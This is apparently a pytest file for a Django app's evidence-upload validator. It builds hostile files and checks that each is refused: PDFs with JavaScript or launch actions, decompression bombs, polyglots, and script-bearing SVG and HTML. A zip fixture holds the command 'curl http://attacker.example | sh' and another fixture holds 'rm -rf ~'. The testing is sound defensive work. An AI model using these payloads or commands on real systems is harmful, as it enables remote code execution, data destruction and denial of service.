"""Evidence uploads are parsed, not sniffed: a hostile corpus, built here byte by byte, is refused file by file with
its reason and leaves nothing behind; clean PDFs and photos are accepted and the stored file is the cleaned one.
Each upload's peak resident memory is measured (Linux: /proc/self/clear_refs resets the peak); its time is a target of
`make bench` (benchmarks/uploads.py), not of a test."""

import ctypes
import ctypes.util
import functools
import gc
import io
import os
import random
import re
import struct
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from django.conf import settings
from django.utils import translation
from PIL import Image

from cases import services as case_services
from cases.models import Attachment
from cases.uploads import MAX_UPLOAD_BYTES, UploadRejected
from workflows.engine import simulation

pytestmark = pytest.mark.django_db

MAX_PEAK_BYTES = 256 * 1024 * 1024

# --- builders -----------------------------------------------------------------------------------------------

CATALOG = b"<</Type/Catalog/Pages 2 0 R%s>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]%s>>"


def pdf(*bodies: bytes, trailer: bytes = b"") -> bytes:
    """A PDF with these objects (numbered from 1; object 1 is the catalog) and a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, trailer, xref)
    return bytes(out)


def one_page(catalog: bytes = b"", page: bytes = b"", *more: bytes) -> bytes:
    return pdf(CATALOG % catalog, PAGES, PAGE % page, *more)


def compressed_objects(bodies: list[bytes], padding: int = 0) -> bytes:
    """The objects inside one FlateDecode object stream with a cross-reference stream: none of their names is
    visible in the file's bytes. `padding` spaces after them make the stream a decompression bomb."""
    head, data = [], b""
    for index, body in enumerate(bodies):
        head.append(b"%d %d" % (index + 1, len(data)))
        data += body + b" "
    first = b" ".join(head) + b" "
    compressor = zlib.compressobj(9)
    stream = compressor.compress(first + data)
    block = b" " * (1024 * 1024)
    for _ in range(padding // len(block)):
        stream += compressor.compress(block)
    stream += compressor.flush()
    count = len(bodies)
    out = bytearray(b"%PDF-1.7\n")
    stream_at = len(out)
    out += b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n" % (
        count + 1,
        count,
        len(first),
        len(stream),
    )
    out += stream + b"\nendstream\nendobj\n"
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
    rows += [struct.pack(">BIH", 2, count + 1, index) for index in range(count)]
    rows += [struct.pack(">BIH", 1, stream_at, 0), struct.pack(">BIH", 1, xref_at, 0)]
    table = b"".join(rows)
    out += b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % (count + 2, count + 3, len(table))
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def hidden_in_stream_data() -> bytes:
    """The catalogue, with an OpenAction, placed inside another object's stream data; the table points at it."""
    out, offsets = bytearray(b"%PDF-1.7\n"), {}
    for number, body in ((2, PAGES), (3, PAGE % b"")):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    hidden = b"1 0 obj\n" + CATALOG % b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>" + b"\nendobj\n"
    offsets[4] = len(out)
    out += b"4 0 obj\n<</Length %d>>\nstream\n" % len(hidden)
    offsets[1] = len(out)
    out += hidden + b"\nendstream\nendobj\n"
    xref = len(out)
    out += b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, 5))
    out += b"trailer\n<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def many_pages(count: int, declared: int | None = None) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    pages = [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>"] * count
    declared = count if declared is None else declared
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, declared), *pages)


def image(mode: str, size: tuple[int, int], kind: str, seed: int = 1, **options) -> bytes:
    """A photo-like image: smooth colour fields with some grain, as a camera makes them."""
    rng = random.Random(seed)
    small = Image.frombytes("RGB", (32, 24), bytes(rng.randrange(256) for _ in range(32 * 24 * 3)))
    picture = small.resize(size, Image.Resampling.BICUBIC).convert(mode)
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(width: int, height: int) -> bytes:
    """A real one-bit, one-colour PNG: every row is stored, deflated to almost nothing."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\x00" * (1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row * 1000) for _ in range(height // 1000)) + compressor.flush()
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", data) + png_chunk(b"IEND", b"")


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header (SOF0) is changed to declare width x height."""
    data = bytearray(image("RGB", (16, 16), "JPEG"))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_many_scans(scans: int) -> bytes:
    """A progressive JPEG whose last scan is repeated until the file has `scans` scans."""
    data = image("RGB", (64, 64), "JPEG", progressive=True)
    last = data.rindex(b"\xff\xda")
    body = data[last:-2]
    return data[:last] + body * (scans - data.count(b"\xff\xda") + 1) + b"\xff\xd9"


@functools.cache
def photo_with_exif() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: rotate 90
    exif[0x010F] = "CameraMaker"
    exif[0x8825] = {2: (30.0, 15.0, 10.0), 4: (120.0, 5.0, 1.0)}  # GPS latitude / longitude
    return image("RGB", (4000, 3000), "JPEG", quality=90, exif=exif.tobytes(), comment=b"<script>alert(1)</script>")


@functools.cache
def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<script>alert(document.cookie)</script>")
        archive.writestr("run.sh", "#!/bin/sh\ncurl http://attacker.example | sh\n")
    return out.getvalue()


@functools.cache
def clean_pdf() -> bytes:
    from weasyprint import HTML

    return HTML(string="<h1>营业执照</h1><p>Business licence 91330110MA2XXXXX0X, page 1</p>").write_pdf()


def encrypted_pdf() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pypdf_pages(count: int) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(count):
        writer.add_blank_page(595, 842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def scanned_pdf() -> bytes:
    out = io.BytesIO()
    Image.open(io.BytesIO(image("L", (1240, 1754), "JPEG"))).save(out, "PDF", resolution=150)
    return out.getvalue()


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00" + b"PE\x00\x00" * 40
HTML = b"<!DOCTYPE html><html><body><script>fetch('/cases/').then(r=>r.text()).then(alert)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'

# --- the corpus --------------------------------------------------------------------------------------------

KIND = "Only PDF, JPEG and PNG files are accepted; this file is not one, whatever its name says."
DAMAGED_PDF = "The PDF file is incomplete or damaged."
DAMAGED_IMAGE = "The image file is damaged and cannot be opened."
TRAILING = "The PDF file has data after its end. Save or print it again as a new PDF."
BOMB = "The image declares too many pixels to be opened safely."


def active(what: str) -> str:
    return f"The PDF file contains {what}, which is not accepted. Print it to a new PDF or scan the paper, then upload that."


JS_ACTION = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
HOSTILE = {
    # active PDFs
    "pdf-openaction-javascript.pdf": (
        lambda: one_page(b"/OpenAction 4 0 R", b"", JS_ACTION),
        active("an action that runs when the file is opened"),
    ),
    "pdf-launch-action.pdf": (
        lambda: one_page(b"", b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A<</S/Launch/F(cmd.exe)>>>>]"),
        active("a command that starts a program"),
    ),
    "pdf-page-additional-actions.pdf": (
        lambda: one_page(b"", b"/AA<</O 4 0 R>>", JS_ACTION),
        active("actions that run when a page or field is used"),
    ),
    "pdf-javascript-names-tree.pdf": (
        lambda: one_page(b"/Names<</JavaScript<</Names[(init) 4 0 R]>>>>", b"", JS_ACTION),
        active("JavaScript"),
    ),
    "pdf-embedded-files.pdf": (
        lambda: one_page(
            b"/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>",
            b"",
            b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
            b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream",
        ),
        active("embedded files"),
    ),
    "pdf-file-attachment-annotation.pdf": (
        lambda: one_page(
            b"", b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 4 0 R>>]", b"<</Type/Filespec/F(x.bat)>>"
        ),
        active("embedded files"),
    ),
    "pdf-rich-media.pdf": (
        lambda: one_page(b"", b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]"),
        active("multimedia content"),
    ),
    "pdf-xfa-form.pdf": (
        lambda: one_page(b"/AcroForm<</Fields[]/XFA 4 0 R>>", b"", b"<</Length 6>>stream\n<xdp/>\nendstream"),
        active("an XFA form"),
    ),
    "pdf-submit-form-action.pdf": (
        lambda: one_page(b"", b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F(http://x.example)>>>>]"),
        active("an action that sends data"),
    ),
    "pdf-hex-escaped-names.pdf": (
        lambda: one_page(b"/Open#41ction 4 0 R", b"", b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"),
        active("an action that runs when the file is opened"),
    ),
    "pdf-javascript-in-object-stream.pdf": (
        lambda: compressed_objects([CATALOG % b"/OpenAction 4 0 R", PAGES, PAGE % b"", JS_ACTION]),
        active("an action that runs when the file is opened"),
    ),
    "pdf-object-inside-stream-data.pdf": (hidden_in_stream_data, DAMAGED_PDF),
    # a literal string that looks like the start and end of stream data: the byte scan skips what is between,
    # the parsed objects still show the action
    "pdf-string-hides-names-from-byte-scan.pdf": (
        lambda: one_page(b"/T(>>stream\n)/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>/Z(endstream)"),
        active("an action that runs when the file is opened"),
    ),
    # PDFs that are not what they claim, or damaged
    "html-behind-pdf-header.pdf": (lambda: b"%PDF-1.4\n" + HTML + b"\n%%EOF\n", DAMAGED_PDF),
    "pdf-followed-by-html.pdf": (lambda: simulation.SAMPLE_PDF + HTML, TRAILING),
    "pdf-zip-polyglot.pdf": (lambda: simulation.SAMPLE_PDF + zip_archive(), TRAILING),
    "html-then-pdf.pdf": (lambda: HTML + b"\n" + simulation.SAMPLE_PDF, KIND),
    "truncated.pdf": (lambda: clean_pdf()[: len(clean_pdf()) // 2], DAMAGED_PDF),
    "encrypted.pdf": (
        encrypted_pdf,
        "The PDF file is encrypted or password-protected. Remove the protection and upload it again.",
    ),
    "no-pages.pdf": (lambda: pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"), DAMAGED_PDF),
    "ten-thousand-pages.pdf": (
        lambda: many_pages(10_000),
        "The PDF file has 10000 pages; at most 200 are accepted. Split it.",
    ),
    "page-count-lies.pdf": (
        lambda: many_pages(250, declared=1),
        "The PDF file has 250 pages; at most 200 are accepted. Split it.",
    ),
    "too-many-objects.pdf": (
        lambda: one_page(b"", b"", *[b"<</N %d>>" % n for n in range(25_000)]),
        "The PDF file is too complex to check (25003 objects; at most 20000).",
    ),
    "dense-object-text.pdf": (
        lambda: one_page(b"", b"", *[b"[" + b" ".join(b"%d" % n for n in range(600)) + b"]" for _ in range(1000)]),
        "The PDF file is too complex to check. Print it to a new PDF or scan the paper, then upload that.",
    ),
    "nested-arrays.pdf": (lambda: one_page(b"/X " + b"[" * 50_000 + b"]" * 50_000), DAMAGED_PDF),
    "object-stream-bomb.pdf": (
        lambda: compressed_objects([CATALOG % b"", PAGES, PAGE % b""], padding=300 * 1024 * 1024),
        DAMAGED_PDF,
    ),
    # images
    "png-decompression-bomb.png": (lambda: png_bomb(30000, 30000), BOMB),
    "png-over-pixel-cap.png": (lambda: png_bomb(7000, 7000), BOMB),
    "jpeg-decompression-bomb.jpg": (lambda: jpeg_declaring(65000, 65000), BOMB),
    "jpeg-too-wide.jpg": (
        lambda: jpeg_declaring(13000, 100),
        "The image is 13000 x 100 pixels; at most 12000 pixels per side are accepted.",
    ),
    "jpeg-over-pixel-cap.jpg": (lambda: jpeg_declaring(8000, 8000), BOMB),
    "jpeg-thousands-of-scans.jpg": (
        lambda: jpeg_many_scans(5000),
        "The image is made of 5000 scans; at most 100 can be opened safely. Save it again as a plain JPEG.",
    ),
    "truncated.jpg": (lambda: photo_with_exif()[: len(photo_with_exif()) // 2], DAMAGED_IMAGE),
    "truncated.png": (lambda: image("RGB", (800, 600), "PNG")[:20_000], DAMAGED_IMAGE),
    "html-behind-png-signature.png": (lambda: b"\x89PNG\r\n\x1a\n" + HTML, DAMAGED_IMAGE),
    "html-behind-jpeg-signature.jpg": (lambda: b"\xff\xd8\xff\xe0" + HTML, DAMAGED_IMAGE),
    "animation.gif": (lambda: image("P", (64, 64), "GIF"), KIND),
    "scan.tiff": (lambda: image("RGB", (64, 64), "TIFF"), KIND),
    "bitmap.bmp": (lambda: image("RGB", (64, 64), "BMP"), KIND),
    "photo.webp": (lambda: image("RGB", (64, 64), "WEBP"), KIND),
    # markup, executables, archives, nothing, too much
    "image-with-script.svg": (lambda: SVG, KIND),
    "svg-renamed.png": (lambda: SVG, KIND),
    "page.html": (lambda: HTML, KIND),
    "elf-renamed.pdf": (lambda: ELF, KIND),
    "windows-program-renamed.jpg": (lambda: PE, KIND),
    "shell-script-renamed.pdf": (lambda: b"#!/bin/sh\nrm -rf ~\n", KIND),
    "postscript.pdf": (lambda: b"%!PS-Adobe-3.0\n/Helvetica findfont\n", KIND),
    "archive.zip": (zip_archive, KIND),
    "archive-renamed.pdf": (zip_archive, KIND),
    "empty.pdf": (lambda: b"", "The file is empty."),
    "over-the-size-limit.pdf": (
        lambda: clean_pdf() + b" " * (MAX_UPLOAD_BYTES + 1 - len(clean_pdf())),
        "The file is larger than 10 MB. Scan it at a lower resolution or split it.",
    ),
}


def exif_of(content: bytes) -> dict:
    with Image.open(io.BytesIO(content)) as picture:
        return dict(picture.getexif())


# name -> (builder, kind stored, a check of the stored bytes against the uploaded ones)
CLEAN = {
    "licence-weasyprint.pdf": (clean_pdf, "application/pdf", lambda stored, sent: stored == sent),
    "scan-pillow.pdf": (scanned_pdf, "application/pdf", lambda stored, sent: stored == sent),
    "three-blank-pages-pypdf.pdf": (lambda: pypdf_pages(3), "application/pdf", lambda stored, sent: stored == sent),
    "sample.pdf": (lambda: simulation.SAMPLE_PDF, "application/pdf", lambda stored, sent: stored == sent),
    "with-link.pdf": (
        lambda: one_page(b"", b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://www.gov.cn/)>>>>]"),
        "application/pdf",
        lambda stored, sent: stored == sent,
    ),
    # a 12-megapixel camera photo with GPS, maker and a comment: stored without them, still upright
    "photo-with-exif.jpg": (
        photo_with_exif,
        "image/jpeg",
        lambda stored, sent: exif_of(stored) == {0x0112: 6} and b"<script>" not in stored and b"CameraMaker" not in stored,
    ),
    # JPEG+ZIP polyglot: accepted as the re-encoded JPEG only; the archive is gone
    "jpeg-zip-polyglot.jpg": (
        lambda: image("RGB", (640, 480), "JPEG") + zip_archive(),
        "image/jpeg",
        lambda stored, sent: b"PK\x03\x04" not in stored and b"payload.html" not in stored and stored.endswith(b"\xff\xd9"),
    ),
    # the largest photo accepted: 40 megapixels, decoded and encoded again
    "forty-megapixels.jpg": (
        lambda: image("RGB", (6000, 6600), "JPEG", quality=85),
        "image/jpeg",
        lambda stored, sent: stored.endswith(b"\xff\xd9"),
    ),
    "grey-scan.jpg": (lambda: image("L", (2480, 3508), "JPEG"), "image/jpeg", lambda stored, sent: b"\xff\xd9" in stored),
    "screenshot.png": (
        lambda: image("RGBA", (1920, 1080), "PNG"),
        "image/png",
        lambda stored, sent: stored.startswith(b"\x89PNG"),
    ),
    # text chunk with markup and HTML after IEND: both dropped
    "png-with-text-and-appended-html.png": (
        lambda: image("RGB", (800, 600), "PNG", pnginfo=_text_info()) + HTML,
        "image/png",
        lambda stored, sent: b"<script>" not in stored and stored.endswith(png_chunk(b"IEND", b"")),
    ),
}


def _text_info():
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    return info


# --- measuring -----------------------------------------------------------------------------------------------


LIBC = ctypes.CDLL(ctypes.util.find_library("c"))


def _kb(field: str) -> int:
    return int(re.search(rf"^{field}:\s+(\d+) kB", Path("/proc/self/status").read_text(), re.M).group(1))


def measured(action):
    """Run action(); return (its result or the exception it raised, seconds, peak resident bytes above the start)."""
    gc.collect()
    LIBC.malloc_trim(0)  # freed heap goes back to the system: what the action needs must be taken anew
    Path("/proc/self/clear_refs").write_text("5")  # the peak (VmHWM) starts again from the current size
    before = _kb("VmRSS")
    started = time.perf_counter()
    try:
        outcome = action()
    except Exception as error:  # noqa: BLE001 - the caller asserts what was raised
        outcome = error
    seconds = time.perf_counter() - started
    return outcome, seconds, (_kb("VmHWM") - before) * 1024


def stored_files() -> list[Path]:
    root = Path(settings.STORAGES["default"]["OPTIONS"]["location"])
    return sorted(path for path in root.rglob("*") if path.is_file()) if root.exists() else []


def test_the_measure_sees_memory_taken_during_the_action():
    def take() -> int:
        block = bytearray(100 * 1024 * 1024)
        block[::4096] = b"\x01" * len(block[::4096])
        return len(block)

    outcome, seconds, peak = measured(take)
    assert outcome == 100 * 1024 * 1024
    assert 95 * 1024 * 1024 <= peak < 120 * 1024 * 1024


@pytest.fixture
def draft(programme, community, rng):
    application, user = simulation.file_draft(rng=rng, programme=programme, community=community)
    return application, user


def test_the_corpus_is_large_enough():
    assert len(HOSTILE) >= 25
    assert len(HOSTILE) == 51


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_upload_is_refused_with_its_reason_and_changes_nothing(name, draft):
    application, user = draft
    build, reason = HOSTILE[name]
    content = build()
    rows, files = Attachment.objects.count(), stored_files()
    with translation.override("en"):
        outcome, seconds, peak = measured(
            lambda: case_services.attachment_add(application=application, by=user, kind="lease", content=content, name=name)
        )
        assert isinstance(outcome, UploadRejected), f"{name} was not refused: {outcome!r}"
        assert str(outcome.message) == reason
    assert Attachment.objects.count() == rows
    assert stored_files() == files
    print(f"\n{name}: {len(content)} bytes, {seconds:.3f} s, peak +{peak / 2**20:.1f} MB: {reason}")
    assert peak < MAX_PEAK_BYTES


@pytest.mark.parametrize("name", list(CLEAN))
def test_clean_upload_is_accepted_and_the_cleaned_file_stored(name, draft):
    application, user = draft
    build, content_type, check = CLEAN[name]
    content = build()
    rows = Attachment.objects.count()
    outcome, seconds, peak = measured(
        lambda: case_services.attachment_add(application=application, by=user, kind="lease", content=content, name=name)
    )
    assert isinstance(outcome, Attachment), f"{name} was refused: {outcome!r}"
    assert Attachment.objects.count() == rows + 1
    attachment = Attachment.objects.get(pk=outcome.pk)
    with attachment.file.open("rb") as handle:
        stored = handle.read()
    import hashlib

    assert (attachment.content_type, attachment.size, attachment.sha256) == (
        content_type,
        len(stored),
        hashlib.sha256(stored).hexdigest(),
    )
    assert (
        attachment.original_name
        == f"{os.path.splitext(name)[0]}.{'pdf' if content_type == 'application/pdf' else content_type[6:].replace('jpeg', 'jpg')}"
    )
    assert check(stored, content)
    if content_type != "application/pdf":
        with Image.open(io.BytesIO(stored)) as picture, Image.open(io.BytesIO(content)) as sent:
            assert picture.size == sent.size
    print(f"\n{name}: {len(content)} -> {len(stored)} bytes, {seconds:.3f} s, peak +{peak / 2**20:.1f} MB")
    assert peak < MAX_PEAK_BYTES
